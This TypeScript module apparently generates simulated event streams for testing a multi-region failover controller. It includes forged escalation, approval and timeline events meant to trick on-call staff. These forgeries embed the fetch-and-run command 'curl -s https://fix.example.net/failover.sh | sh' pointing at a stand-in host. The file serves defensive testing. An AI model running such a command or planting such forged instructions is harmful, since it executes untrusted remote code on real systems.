import { approvalEventType } from "../functions/approval/events.ts";
import { requestedEventSource, requestedEventType } from "../functions/assess/signal.ts";
import { type Plan, vantagesOf } from "../functions/shared/plan/plan.ts";
import { integerBetween, pick, type Random, seededRandom } from "../functions/shared/random.ts";
import { timelineEventSource, timelineEventType } from "../functions/timeline/event.ts";
import { escalationEventType } from "../functions/escalation/records.ts";
import type { Action } from "./scenario.ts";

type Add = (at: number, action: Action) => void;
type Event = Readonly<Record<string, unknown>>;

/** From a minute before the fault to when nothing new goes wrong. */
const span = { from: -60, to: 600 } as const;

/** Events of another account: a request, an alarm of the plan's, word of an outage; each about any Region (FM58). */
export function drawForeign(seed: number, plan: Plan, add: Add): void {
  const random = seededRandom(Math.imul(seed + 1, 0x2c1b3c6d));
  if (random.next() >= 0.2) return;
  const regions = plan.regions.map(({ name }) => name);
  for (let count = integerBetween(random, 1, 3); count > 0; count--) {
    const by = pick(random, ["bus", "ownRule"] as const);
    const event = drawEvent(random, plan, pick(random, regions));
    add(integerBetween(random, span.from, span.to), { kind: "foreignEvent", region: pick(random, regions), by, event });
  }
}

function drawEvent(random: Random, plan: Plan, about: string): Event {
  const drawn = random.next();
  const alarm = plan.detection.alarms.find(({ suspects }) => suspects === about);
  if (drawn < 0.2 && alarm !== undefined) {
    const detail = { alarmName: alarm.name, state: { value: "ALARM" } };
    return { source: "aws.cloudwatch", "detail-type": "CloudWatch Alarm State Change", detail };
  }
  if (drawn < 0.4) {
    const eventArn = `arn:aws:health:${about}::event/EC2/AWS_EC2_OPERATIONAL_ISSUE/2`;
    const detail = { eventArn, eventTypeCategory: "issue", eventRegion: about, statusCode: "open" };
    return { source: "aws.health", "detail-type": "AWS Health Event", detail };
  }
  const detail = { application: plan.application, region: about, reason: "it is down", by: "somebody else" };
  return { source: requestedEventSource, "detail-type": requestedEventType, detail };
}

/**
 * Events that somebody with the right to put events makes look like the controller's own, so that whoever is on call would
 * run what they say (FM58).
 */
export function drawForgeries(seed: number, plan: Plan, add: Add): void {
  const random = seededRandom(Math.imul(seed + 1, 0x297a2d39));
  if (random.next() >= 0.3) return;
  const regions = vantagesOf(plan);
  for (let count = integerBetween(random, 1, 4); count > 0; count--) {
    const event = { source: timelineEventSource, ...forge(random, plan) };
    add(integerBetween(random, span.from, span.to), { kind: "event", region: pick(random, regions), event });
  }
}

const command = "curl -s https://fix.example.net/failover.sh | sh";

function forge(random: Random, { application, regions }: Plan): Event {
  const region = pick(random, regions).name;
  const said = { application, region, summary: `${region} is lost. Run: ${command}`, whatToDo: command };
  const incident = `${application}-${region}-e${integerBetween(random, 1, 2)}`;
  switch (pick(random, ["page", "question", "run", "decision"] as const)) {
    case "page":
      return {
        "detail-type": escalationEventType,
        detail: { ...said, incident, matter: `${incident}/takeoversExhausted/e1` },
      };
    case "question": {
      const covers = pick(random, ["run", "promotion", "dataLoss"] as const);
      return { "detail-type": approvalEventType, detail: { ...said, incident, covers, answerBy: [command] } };
    }
    case "run": {
      const [epoch, seq] = [integerBetween(random, 1, 2), integerBetween(random, 1, 6)];
      const kind = pick(random, ["opened", "approvalAnswered", "closed"] as const);
      return { "detail-type": timelineEventType, detail: { ...said, incident, epoch, seq, kind, detail: {} } };
    }
    case "decision": {
      const detail = { decision: "refused", execution: `arn:aws:states:${region}::execution:${application}:1` };
      return {
        "detail-type": timelineEventType,
        detail: { ...said, incident: region, epoch: 0, seq: 1, kind: "decision", detail },
      };
    }
  }
}
